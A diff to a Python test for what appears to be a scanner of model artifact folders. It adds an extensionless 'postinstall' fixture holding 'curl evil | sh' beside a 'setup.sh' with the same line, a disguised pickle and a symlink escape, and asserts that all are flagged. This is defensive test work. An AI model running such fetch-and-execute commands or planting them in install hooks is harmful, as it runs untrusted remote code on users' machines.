@@ -37,6 +37,7 @@ def test_malicious_files_are_flagged(tmp_path: Path) -> None:
     (tmp_path / "model.safetensors").write_bytes(_st())
     (tmp_path / "libhook.so").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 64)
     (tmp_path / "setup.sh").write_text("curl evil | sh\n")
+    (tmp_path / "postinstall").write_text("#!/bin/bash\ncurl evil | sh\n")  # no extension: the shebang tells
     (tmp_path / "weights.gguf").write_bytes(pickle.dumps({"x": 1}, protocol=2))
     (tmp_path / "config.json").write_text("not json at all")
     outside = tmp_path.parent / f"{tmp_path.name}-secret"
@@ -44,7 +45,7 @@ def test_malicious_files_are_flagged(tmp_path: Path) -> None:
     os.symlink(outside, tmp_path / "tokenizer.model")
     found = _rules(tmp_path)
     assert found["static.files.native-code"] == {"libhook.so"}
-    assert found["static.files.script"] == {"setup.sh"}
+    assert found["static.files.script"] == {"setup.sh", "postinstall"}
     assert found["static.files.extension-mismatch"] == {"weights.gguf", "config.json"}
     assert found["static.files.symlink-escape"] == {"tokenizer.model"}
 
